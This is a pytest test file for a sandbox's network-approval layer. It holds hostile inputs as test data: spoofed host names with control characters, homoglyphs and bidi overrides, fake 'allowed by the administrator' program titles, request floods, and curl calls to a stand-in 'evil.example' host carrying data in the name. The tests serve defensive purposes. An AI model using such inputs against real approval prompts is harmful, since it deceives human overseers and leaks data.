"""The question whether a command may reach a host: nothing that a hostile command says of itself deceives or floods who answers."""

from __future__ import annotations

import re
import shutil
from pathlib import Path
from typing import Any

import pytest

from cantrip_acp.sandbox import Outcome, Sandbox, SandboxOptions
from cantrip_acp.sandbox.network import clients, http_head, name_server, proxy
from cantrip_acp.sandbox.policy.policy import PROXY_PORT

HOST = re.compile(r"[a-z0-9_][a-z0-9._-]{0,252}")
PROGRAM = re.compile(r"[A-Za-z0-9][A-Za-z0-9_.-]{0,30}( [A-Za-z0-9][A-Za-z0-9_.-]{0,30})?")
BAD = {
    "a control character": "a\x1b[2Kb.example",
    "a new line": "a\nb.example",
    "a letter that turns the text around": "a\u202eb.example",
    "no width": "a\u200bb.example",
    "a Cyrillic letter": "ex\u0430mple.example",
    "very long": "a" * 4000 + ".example",
    "markup": "[click](http:x)`b`.example",
    "a user before it": "good.example@bad.example",
    "a space": "good.example bad.example",
    "punycode for another script": "xn--exmple-4nf.example",
}


class Asked:
    """Collects the questions, and refuses."""

    def __init__(self) -> None:
        self.questions: list[tuple[str, int, str]] = []

    async def __call__(self, host: str, port: int, command: str, program: str, address: str) -> str:
        self.questions.append((host, port, program))
        return "no"

    def hosts(self) -> set[str]:
        return {host for host, _, _ in self.questions}


async def run(command: str, folder: Path, asked: Asked) -> Outcome:
    options = SandboxOptions(bash_network=(), bash_timeout_ms=60_000)
    return await Sandbox(options, folder).run(command, ask=asked)


SENDER = """
import socket, sys
def send(port, data, to="127.0.0.1"):
    with socket.create_connection((to, port)) as s:
        s.settimeout(5)
        s.sendall(data)
        try:
            while s.recv(65536): pass
        except OSError: pass
"""


def requests(host: str) -> str:
    """A host in each place where a program can name one: CONNECT, an address, the Host field, TLS."""
    hello = (
        "import ssl\n"
        "c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE\n"
        "out = ssl.MemoryBIO(); made = c.wrap_bio(ssl.MemoryBIO(), out, server_hostname='x' * len(h))\n"
        "try: made.do_handshake()\n"
        "except ssl.SSLError: pass\n"
        f"send(443, out.read().replace(b'x' * len(h), h), '{name_server.ADDRESS}')\n"
    )
    return (
        f"{SENDER}h = {host!r}.encode()\n"
        f"send({PROXY_PORT}, b'CONNECT ' + h + b':443 HTTP/1.1\\r\\n\\r\\n')\n"
        f"send({PROXY_PORT}, b'GET http://' + h + b'/ HTTP/1.1\\r\\n\\r\\n')\n"
        f"send(80, b'GET / HTTP/1.1\\r\\nHost: ' + h + b'\\r\\n\\r\\n', '{name_server.ADDRESS}')\n"
        + (hello if len(host.encode()) < 200 else "")
    )


@pytest.mark.parametrize("name", BAD)
async def test_a_host_is_shown_as_plain_letters(name: str, tmp_path: Path) -> None:
    asked = Asked()
    outcome = await run(f"python3 - <<'EOF'\n{requests(BAD[name])}EOF\necho tried", tmp_path, asked)
    assert outcome.stdout.endswith("tried\n"), outcome
    assert all(HOST.fullmatch(host) for host in asked.hosts()), asked.hosts()
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f\u200b\u202e]", outcome.stderr)


async def test_control_a_host_as_it_was_sent(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(http_head, "host_name", lambda text: text)
    asked = Asked()
    await run(f"python3 - <<'EOF'\n{requests(BAD['punycode for another script'].upper())}EOF", tmp_path, asked)
    assert not all(HOST.fullmatch(host) for host in asked.hosts())


REAL = "P=$(python3 -c 'import sys; print(sys.executable)'); "
TITLES = {
    "a title": "exec -a 'curl (allowed by the administrator)' $P get.py",
    "codes of a terminal": "exec -a $'npm\\e[8m install' $P get.py",
    "a name on two lines": "exec -a $'npm install\\nAllow it' $P get.py",
    "arguments": "python3 -c 'exec(open(\"get.py\").read())' '`curl` wants pypi.org:443'",
}


@pytest.mark.parametrize("title", TITLES)
async def test_a_program_is_shown_as_two_words(title: str, tmp_path: Path) -> None:
    (tmp_path / "get.py").write_text(f"{SENDER}send({PROXY_PORT}, b'CONNECT evil.example:443 HTTP/1.1\\r\\n\\r\\n')\n")
    asked = Asked()
    await run(REAL + TITLES[title], tmp_path, asked)
    ((host, port, program),) = asked.questions
    assert (host, port) == ("evil.example", 443)
    assert program == "" or PROGRAM.fullmatch(program), program


async def test_control_a_title_as_it_is(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(clients, "_WORD", re.compile(r"(?s).*"))
    (tmp_path / "get.py").write_text(f"{SENDER}send({PROXY_PORT}, b'CONNECT evil.example:443 HTTP/1.1\\r\\n\\r\\n')\n")
    asked = Asked()
    await run(REAL + TITLES["a title"], tmp_path, asked)
    assert not PROGRAM.fullmatch(asked.questions[0][2])


FLOOD = (
    f"{SENDER}"
    "for i in range(1000):\n"
    f"    send({PROXY_PORT}, b'CONNECT h%d.example:443 HTTP/1.1\\r\\n\\r\\n' % i)\n"
    "    if i % 10 == 0:\n"
    "        try: send(80, b'GET / HTTP/1.1\\r\\nHost: n%d.example\\r\\n\\r\\n' % i, 'n%d.example' % i)\n"
    "        except OSError: pass\n"
    "print('sent')\n"
)


async def test_a_thousand_hosts_are_three_questions(tmp_path: Path) -> None:
    asked = Asked()
    outcome = await run(f"python3 - <<'EOF'\n{FLOOD}EOF", tmp_path, asked)
    assert outcome.stdout == "sent\n", outcome
    assert len(asked.questions) == proxy.MOST_REFUSED
    assert len(outcome.stderr.splitlines()) <= 20
    assert "nobody is asked about more" in outcome.stderr


async def test_control_a_thousand_hosts(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(proxy, "MOST_REFUSED", 10_000)
    asked = Asked()
    await run(f"python3 - <<'EOF'\n{FLOOD}EOF", tmp_path, asked)
    assert len(asked.questions) > 1000


async def test_connections_to_one_host_are_one_question(tmp_path: Path) -> None:
    if shutil.which("curl") is None:
        pytest.skip("curl is not installed")
    asked = Asked()
    get = "curl -sS -o /dev/null https://one.example/"
    await run(f"{get} & {get} & {get} --noproxy '*' & {get} & wait; {get}", tmp_path, asked)
    assert len(asked.questions) == 1


async def test_a_name_that_is_looked_up_asks_nobody(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Data in names stay here: neither a question nor this machine's resolver gets them, before a connection is allowed."""
    import asyncio

    looked_up: list[Any] = []

    async def getaddrinfo(self: Any, host: Any, port: Any, **more: Any) -> Any:
        looked_up.append(host)
        return []

    monkeypatch.setattr(asyncio.BaseEventLoop, "getaddrinfo", getaddrinfo)
    asked = Asked()
    outcome = await run(
        "getent hosts s3cret.evil.example; curl -sS https://s3cret.evil.example/; true", tmp_path, asked
    )
    assert name_server.ADDRESS in outcome.stdout
    assert looked_up == []
    assert asked.hosts() == {"s3cret.evil.example"}
